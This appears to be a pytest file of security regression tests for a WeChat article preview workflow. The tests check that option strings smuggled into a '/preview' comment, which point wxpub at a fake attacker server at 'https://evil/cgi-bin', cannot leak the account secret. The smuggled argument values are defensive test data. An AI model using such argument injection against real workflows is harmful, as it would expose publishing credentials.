"""Attacks on what issues 13 and 14 added: the WeChat preview workflow, report, backup, stats,
doctor and new. Each test is an attack a hostile editor, commenter or server would try; every
one ran red before its fix (or is a held case kept so it stays held)."""

from __future__ import annotations

import http.server
import os
import subprocess
import threading
from pathlib import Path
from typing import Iterator

import pytest
import yaml

from tests.testing.fixtures import PROJECT, commit_all, write_article

PREVIEW_WORKFLOW = PROJECT / ".github" / "workflows" / "wechat-preview.yml"
ARTICLE = "content/official/publicity/2026-10-20-sports-day"
SECRET = "s3cr3t-official-never-leaves"


def step_script(workflow: Path, name: str) -> str:
    """The `run:` script of the step called `name` in the workflow's one job."""
    document = yaml.safe_load(workflow.read_text(encoding="utf-8"))
    (job,) = document["jobs"].values()
    (step,) = [s for s in job["steps"] if s.get("name") == name]
    script: str = step["run"]
    return script


class _Recorder(http.server.BaseHTTPRequestHandler):
    """An attacker's server: remembers every request line and body it is sent."""

    seen: list[str] = []

    def _record(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length).decode("utf-8", "replace") if length else ""
        self.seen.append(self.path + " " + body)
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.end_headers()
        self.wfile.write(b'{"errcode": 40001, "errmsg": "invalid credential"}')

    do_GET = do_POST = _record

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the stdlib's name
        return


@pytest.fixture
def attacker() -> Iterator[tuple[str, list[str]]]:
    seen: list[str] = []
    handler = type("Recorder", (_Recorder,), {"seen": seen})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/cgi-bin", seen
    finally:
        server.shutdown()
        server.server_close()


# -- wechat-preview.yml: a commenter's words become wxpub's arguments ------------------------------


@pytest.mark.parametrize("smuggled", ["--api {url}", "--api={url}", "-- --api {url}", "--sandbox-url={url}"])
def test_a_preview_comment_cannot_point_wxpub_at_another_server(repo: Path, attacker: tuple[str, list[str]],
                                                                 tmp_path: Path, smuggled: str) -> None:
    """`/preview 张三 --api https://evil/cgi-bin` puts `--api …` among wxpub's arguments: the
    account's appid and secret would go to the commenter's server. The send step refuses any
    name that reads as an option, so nothing reaches that server."""
    url, seen = attacker
    write_article(repo)
    sha = commit_all(repo, "one article")
    runner_temp = tmp_path / "runner"
    runner_temp.mkdir()
    (runner_temp / "articles").write_text(ARTICLE + "\n", encoding="utf-8")
    env = {
        "PATH": f"{Path(os.sys.executable).parent}:{os.environ['PATH']}",  # type: ignore[attr-defined]
        "HOME": str(tmp_path), "RUNNER_TEMP": str(runner_temp), "HEAD_SHA": sha,
        "TO": "张三 " + smuggled.format(url=url),
        "WXPUB_OFFICIAL_APPID": "wxofficialappid", "WXPUB_OFFICIAL_SECRET": SECRET,
        "WXPUB_PREVIEW_OPENID_LISI": "oLisi0000000000000000000002",
    }
    result = subprocess.run(["bash", "-e", "-o", "pipefail", "-c", step_script(PREVIEW_WORKFLOW, "Send previews")],
                            cwd=repo, env=env, capture_output=True, text=True, timeout=120)
    assert seen == [], f"the commenter's server was called: {seen}"
    assert result.returncode != 0, result.stdout + result.stderr
    assert SECRET not in result.stdout + result.stderr
